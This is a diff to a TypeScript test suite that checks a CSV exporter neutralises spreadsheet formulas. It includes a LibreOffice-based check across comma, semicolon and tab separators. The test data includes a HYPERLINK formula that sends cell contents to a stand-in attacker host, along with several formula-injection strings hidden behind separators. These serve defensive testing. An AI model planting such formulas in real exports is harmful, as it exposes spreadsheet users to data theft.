@@ -70,6 +70,18 @@ describe('buildCsv', () => {
       'plain',
       '',
     ]);
+    expect(['a;=1;b', 'a,+1', 'a\t-1', 'a\n@x', 'a\r\n=1', 'a|=1', 'say "=1"', '2024-03-21', 'a; =1', 'x = 1'].map(neutralizeFormula)).toEqual([
+      "a;'=1;b",
+      "a,'+1",
+      "a\t'-1",
+      "a\n'@x",
+      "a\r\n'=1",
+      "a|'=1",
+      `say "'=1"`,
+      '2024-03-21',
+      'a; =1',
+      'x = 1',
+    ]);
     const hostile: Note = { ...example.notes[0]!, body: '=HYPERLINK("http://evil.example/?"&A1,"click")', tags: ['@admin', '-x'] };
     const rows = readBack(buildCsv({ ...example, notes: [hostile] }));
     const row = rows.find((r) => r['Recommendation ID'] === hostile.recommendationId)!;
@@ -83,47 +95,59 @@ describe('buildCsv', () => {
   });
 });
 
-// LibreOffice must be installed (Debian: libreoffice-calc; .ci/run installs it): this test fails, not skips, without it.
+// LibreOffice must be installed (Debian: libreoffice-calc; .ci/run installs it): these tests fail, not skip, without it.
+const SEPARATORS = { comma: 44, semicolon: 59, tab: 9 } as const;
+
+/**
+ * The CSV as LibreOffice Calc shows it when opened with `separator` (UTF-8, double quote, formulas evaluated: the
+ * import dialog's defaults), read back from Calc's own CSV of the sheet.
+ */
+function openInCalc(text: string, separator: number): string[][] {
+  let version = '';
+  try {
+    version = execFileSync('soffice', ['--version'], { encoding: 'utf8' });
+  } catch {
+    throw new Error('soffice (LibreOffice) is not installed: apt-get install -y --no-install-recommends libreoffice-calc');
+  }
+  expect(version).toMatch(/LibreOffice/);
+  const dir = mkdtempSync(join(tmpdir(), 'upr-csv-'));
+  try {
+    writeFileSync(join(dir, 'in.csv'), text);
+    const importOptions = `CSV:${separator},34,76,1,,1033,false,false,false,false,false,-1,true`;
+    execFileSync(
+      'soffice',
+      [`-env:UserInstallation=file://${join(dir, 'profile')}`, '--headless', `--infilter=${importOptions}`, '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76,1', '--outdir', join(dir, 'out'), join(dir, 'in.csv')],
+      { stdio: 'pipe', timeout: 110_000 },
+    );
+    return Papa.parse<string[]>(readFileSync(join(dir, 'out', 'in.csv'), 'utf8'), { skipEmptyLines: true }).data;
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+}
+
 describe('LibreOffice', () => {
   it('opens the CSV with every cell as written and no formula evaluated', { timeout: 120_000 }, () => {
-    let version = '';
-    try {
-      version = execFileSync('soffice', ['--version'], { encoding: 'utf8' });
-    } catch {
-      throw new Error('soffice (LibreOffice) is not installed: apt-get install -y --no-install-recommends libreoffice-calc');
-    }
-    expect(version).toMatch(/LibreOffice/);
-    const dir = mkdtempSync(join(tmpdir(), 'upr-csv-'));
-    try {
-      // A second note that a spreadsheet would compute if it were not neutralised.
-      const input = buildCsv({ ...example, notes: example.notes.map((n, i) => (i === 1 ? { ...n, body: '=1+1' } : n)) });
-      writeFileSync(join(dir, 'in.csv'), input);
-      // Import as UTF-8, comma, double quote, with formulas evaluated (the import dialog's default): what a user gets.
-      const importOptions = 'CSV:44,34,76,1,,1033,false,false,false,false,false,-1,true';
-      execFileSync(
-        'soffice',
-        [`-env:UserInstallation=file://${join(dir, 'profile')}`, '--headless', `--infilter=${importOptions}`, '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76,1', '--outdir', join(dir, 'out'), join(dir, 'in.csv')],
-        { stdio: 'pipe', timeout: 110_000 },
-      );
-      const opened = Papa.parse<string[]>(readFileSync(join(dir, 'out', 'in.csv'), 'utf8'), { skipEmptyLines: true }).data;
-      const written = Papa.parse<string[]>(input.slice(1), { skipEmptyLines: true }).data;
-      expect(opened).toEqual(written);
-      expect(opened.flat()).toContain("'=1+1");
-      expect(opened.flat().join()).toContain('À vérifier avant l’EPU 48');
-    } finally {
-      rmSync(dir, { recursive: true, force: true });
-    }
+    // A second note that a spreadsheet would compute if it were not neutralised.
+    const input = buildCsv({ ...example, notes: example.notes.map((n, i) => (i === 1 ? { ...n, body: '=1+1' } : n)) });
+    const opened = openInCalc(input, SEPARATORS.comma);
+    const written = Papa.parse<string[]>(input.slice(1), { skipEmptyLines: true }).data;
+    expect(opened).toEqual(written);
+    expect(opened.flat()).toContain("'=1+1");
+    expect(opened.flat().join()).toContain('À vérifier avant l’EPU 48');
   });
-});
 
-describe('invisible formatting', () => {
-  it('shows every bidi control and invisible character in a cell as a visible code', () => {
-    const hostile = withInvisibleFormatting(example);
-    const rows = readBack(buildCsv(hostile));
-    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(INVISIBLE);
-    const row = rows.find((r) => r['Recommendation ID'] === hostile.recommendations[0]!.id)!;
-    expect(row.Recommendation).toContain('⟨U+202E⟩ytlanep htaed⟨U+202C⟩');
-    expect(row.Notes).toContain('Paid ⟨U+2066⟩⟨U+202E⟩0001⟨U+2069⟩ euros');
-    expect(row.Tags).toContain('urgent⟨U+200F⟩⟨U+200B⟩');
+  // Formulas hidden after each place a locale may split a cell, in a recommendation, a note and a tag: each one,
+  // if computed, shows 1337 or an error.
+  const HIDDEN = ['a;=1336+1;b', 'a,=1336+1,b', 'a\t+1336+1\tb', 'a\n=1336+1', 'a\r\n-1338+2675', 'a|=1336+1', 'say "=1336+1"', '=1336+1'];
+  const [first, ...others] = example.recommendations;
+  const hostile = {
+    ...example,
+    recommendations: [{ ...first!, text: `Ratify ${HIDDEN.join(' ')}` }, ...others],
+    notes: example.notes.map((n) => (n.recommendationId === first!.id ? { ...n, body: HIDDEN.join('\n'), tags: HIDDEN } : n)),
+  };
+  it.each(Object.entries(SEPARATORS))('computes no formula hidden inside a cell when opened with %s as separator', { timeout: 120_000 }, (_name, separator) => {
+    const cells = openInCalc(buildCsv(hostile), separator).flat();
+    expect(cells.length).toBeGreaterThan(CSV_COLUMNS.length);
+    expect(cells.filter((cell) => /^(1337|-?1335|Err:\d+|#[A-Z]+[?!]?)$/.test(cell.trim()))).toEqual([]);
   });
 });
